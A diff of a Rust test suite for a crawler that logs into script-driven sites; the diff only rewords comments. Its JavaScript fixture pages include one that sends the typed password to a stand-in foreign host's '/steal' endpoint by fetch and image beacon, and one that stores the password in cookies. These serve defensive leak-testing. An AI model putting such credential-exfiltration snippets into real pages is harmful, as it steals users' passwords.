@@ -1,5 +1,5 @@
-//! Logins that need their page's scripts, over real sockets: forms that scripts build, forms that scripts send, and pages that would do
-//! something else with the password. One server, each site a folder of it.
+//! Logins that need their page's scripts, over real sockets: forms that scripts build, forms that scripts send, and pages that misuse the
+//! password. One server; each site is a folder of it.
 
 use std::collections::HashMap;
 use std::fs;
@@ -19,11 +19,11 @@ use base64::engine::general_purpose::STANDARD;
 const PASSWORD: &str = "s3cret & grün+%";
 const TORRENTS: usize = 40;
 
-/// A page whose form is built by its script, stands in no `form`, waits for its fields as a framework does, and posts JSON with a token
-/// that another request brought.
+/// A page whose form is built by its script without a `form` element, waits for its fields like a framework, and posts JSON with a
+/// token from another request.
 const BUILT: &str = r#"
     const field = (id, type) => { const one = document.createElement('input'); one.id = id; one.type = type;
-        // As React does: what is set through the object is not seen as typed.
+        // Like React: a value set through the object does not count as typed.
         const own = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value');
         Object.defineProperty(one, 'value', { configurable: true, get() { return own.get.call(this) },
             set(text) { this.tracked = text; own.set.call(this, text) } });
@@ -42,7 +42,7 @@ const BUILT: &str = r#"
         });
     });"#;
 
-/// A form without an action whose handler sends two hashes in place of the password.
+/// A form without an action, whose handler sends two hashes instead of the password.
 const HASHED: &str = r#"
     function md5(text) {
         var i, k = [], s = [7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21];
@@ -67,30 +67,30 @@ const HASHED: &str = r#"
     }
     function seal(form) { form.sealed.value = md5(form.salt.value + md5(form.pass.value)); form.pass.value = ''; return true; }"#;
 
-/// A page that would tell its password to another host, to its console and in an error.
+/// A page that sends its password to another host, to its console and in an error.
 const FOREIGN: &str = r#"document.getElementById('go').onclick = () => { const secret = document.getElementById('pass').value;
     console.log(secret, btoa(unescape(encodeURIComponent(secret))));
     fetch('http://127.0.0.2:PORT/steal', { method: 'POST', body: secret });
     new Image().src = 'http://127.0.0.2:PORT/steal?' + encodeURIComponent(secret);
     throw new Error('sent ' + secret + ' ' + encodeURIComponent(secret)) };"#;
 
-/// A page that asks whether the name is known once it is typed, and writes the password into cookies.
+/// A page that checks the name as it is typed, and writes the password into cookies.
 const TYPED: &str = r#"for (const of of [user, pass]) for (const kind of ['keydown', 'input', 'change', 'blur'])
         of.addEventListener(kind, () => fetch('check-' + kind, { method: 'POST', body: of.value }).catch(() => 0));
     go.onclick = async () => { document.cookie = 'p=' + encodeURIComponent(pass.value) + '; path=/';
         document.cookie = 'q=' + btoa(unescape(encodeURIComponent(pass.value))) + '; path=/'; document.cookie = 'seen=1; path=/';
         const r = await fetch('in', { method: 'POST', body: user.value + '\n' + pass.value }); if (r.ok) location = './' };"#;
 
-/// A page whose scripts read one thing after the other.
+/// A page whose scripts send requests one after the other.
 const READS: &str = r#"const reads = () => fetch('api/a').catch(() => 0).then(() => fetch('api/b')).catch(() => 0);"#;
 
-/// A form whose handler sends one field more, and tells it.
+/// A form whose handler sends an additional field, and logs it.
 const FIELDS: &str = r#"function send(form) {
         console.log(form.colour.value); setTimeout(() => { throw new Error('colour ' + form.colour.value + ' ' + encodeURIComponent(form.colour.value)) });
         fetch('in?c=1', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({
             user: form.user.value, pass: form.pass.value, colour: form.colour.value }) }).then(() => location = './');
         return false }"#;
-/// A page that encrypts what is typed with a number of its own each time.
+/// A page that encrypts the input with a new number each time.
 const CODED: &str = r#"go.onclick = () => { const hex = bytes => bytes.map(byte => ('0' + byte.toString(16)).slice(-2)).join('');
         const salt = Array.from({ length: 8 }, () => Math.floor(Math.random() * 256));
         const typed = unescape(encodeURIComponent(pass.value)).split('').map((letter, at) => letter.charCodeAt(0) ^ salt[at % 8]);
@@ -98,7 +98,7 @@ const CODED: &str = r#"go.onclick = () => { const hex = bytes => bytes.map(byte 
             .then(r => { if (r.ok) location = './' }).catch(() => 0) };"#;
 const COLOUR: &str = "veilchenblau & 7391+%";
 
-/// What a site's own state is.
+/// The state of a site.
 #[derive(Default)]
 struct Place {
     session: Option<u64>,
@@ -113,12 +113,12 @@ struct Place {
 #[derive(Default)]
 struct Web {
     places: Mutex<HashMap<String, Place>>,
-    /// Requests to the host that is nobody's.
+    /// Requests to the foreign host.
     stolen: Mutex<Vec<String>>,
     port: Mutex<u16>,
 }
 
-/// What `CODED` has made of what was typed.
+/// Decodes the output of `CODED`.
 fn decoded(body: &str) -> Option<Vec<u8>> {
     let body: serde_json::Value = serde_json::from_str(body).ok()?;
     let bytes = |name: &str| {
@@ -165,7 +165,7 @@ async fn answer(State(web): State<Arc<Web>>, method: Method, uri: Uri, headers: 
             log.iter().filter(|(method, _)| *method == Method::POST).count() == 1
         };
         if is_first {
-            // Whoever has sent it is lost before this is over.
+            // The sender is killed before this is over.
             tokio::time::sleep(std::time::Duration::from_secs(60)).await;
         }
         return page("Wrong password".to_owned());
@@ -180,7 +180,7 @@ async fn answer(State(web): State<Arc<Web>>, method: Method, uri: Uri, headers: 
         };
         match site {
             "coded-killed" if is_first => {
-                // Whoever has sent it is lost before this is over.
+                // The sender is killed before this is over.
                 tokio::time::sleep(std::time::Duration::from_secs(60)).await;
                 return StatusCode::OK.into_response();
             }
@@ -345,7 +345,7 @@ async fn answer(State(web): State<Arc<Web>>, method: Method, uri: Uri, headers: 
                  .then(r => {{ if (r.ok) location = './'; else said.textContent = '{said}' }})</script>"
             ))
         }
-        // Taken once, and refused from then on.
+        // Accepted once, and rejected from then on.
         (Method::POST, "told-failed" | "told-locked" | "told-json", "in") => match logins_before {
             0 if judge(body == PASSWORD).is_some() => {
                 ([(header::SET_COOKIE, format!("sid=1; Path=/{site}; HttpOnly"))], "{}").into_response()
@@ -397,7 +397,7 @@ impl Stage {
         Self::with(site, "", lines, "")
     }
 
-    /// The same, with `top` above all tables and `rate` among the lines of its own.
+    /// The same, with `top` above all tables and `rate` among its own lines.
     fn with(site: &'static str, top: &str, lines: &str, rate: &str) -> Self {
         let runtime = tokio::runtime::Runtime::new().unwrap();
         let web = Arc::<Web>::default();
@@ -405,7 +405,7 @@ impl Stage {
         let listener = runtime.block_on(tokio::net::TcpListener::bind("127.0.0.1:0")).unwrap();
         let port = listener.local_addr().unwrap().port();
         *web.port.lock().unwrap() = port;
-        // The host that is nobody's would hear what is sent to it.
+        // The foreign host would receive what is sent to it.
         let foreign = runtime.block_on(tokio::net::TcpListener::bind(("127.0.0.2", port))).unwrap();
         let of_foreign = app.clone();
         runtime.spawn(async move { axum::serve(listener, app).await.unwrap() });
@@ -462,7 +462,7 @@ impl Stage {
     }
 }
 
-/// A secret in the forms in which a page might tell it.
+/// A secret in the forms in which a page might reveal it.
 fn forms(secret: &str) -> Vec<String> {
     vec![
         secret.to_owned(),
@@ -539,7 +539,7 @@ fn a_wrong_password_is_told_and_sent_once() {
     }
 }
 
-/// A pair that was let in before is held at once by what a script writes beside its form, or an API says.
+/// Credentials that were accepted before are held at once after a message from a script beside its form, or from an API.
 #[test]
 fn that_the_login_failed_or_the_account_is_locked_is_told_by_scripts_as_well() {
     for (site, told_as) in [
@@ -629,7 +629,7 @@ fn behind_an_answer_that_asks_for_patience_scripts_ask_nothing_more_and_the_wait
         for _ in 0..2 {
             let (crawl, told) = stage.run(&["crawl", "site"]);
             assert_eq!(crawl.status.code(), Some(1), "{site}: {told}");
-            // The second crawl waits, too, and asks for nothing.
+            // The second crawl waits, too, and requests nothing.
             assert_eq!((stage.asked("api/a"), stage.asked("api/b"), stage.posts()), (1, 0, 0), "{site}: {told}");
             assert_eq!(stage.asked("login"), 1, "{site}: {told}");
         }
@@ -664,12 +664,12 @@ fn nothing_of_the_rule_files_fields_is_told() {
     hidden(&told);
 }
 
-/// Processes that this one has started.
+/// Child processes of this process.
 fn children_of(parent: u32) -> Vec<i32> {
     let of = |entry: fs::DirEntry| {
         let id: i32 = entry.file_name().to_str()?.parse().ok()?;
         let stat = fs::read_to_string(entry.path().join("stat")).ok()?;
-        // Behind the name, which may hold anything: state, then the parent.
+        // After the name, which may contain anything: state, then the parent.
         let above: u32 = stat.rsplit_once(')')?.1.split_whitespace().nth(1)?.parse().ok()?;
         (above == parent).then_some(id)
     };
@@ -702,7 +702,7 @@ fn a_child_that_is_lost_behind_the_post_is_no_reason_for_a_second_one() {
     assert!(told.contains("ended while their POST was under way"), "{told}");
 }
 
-/// What was typed leaves in a shape that nobody can know again.
+/// The input is sent in an unrecognisable form.
 #[test]
 fn a_coded_login_that_is_killed_cut_off_or_asked_to_wait_is_sent_again_by_its_operators_word_alone() {
     for site in ["coded-killed", "coded-dropped", "coded-limited"] {
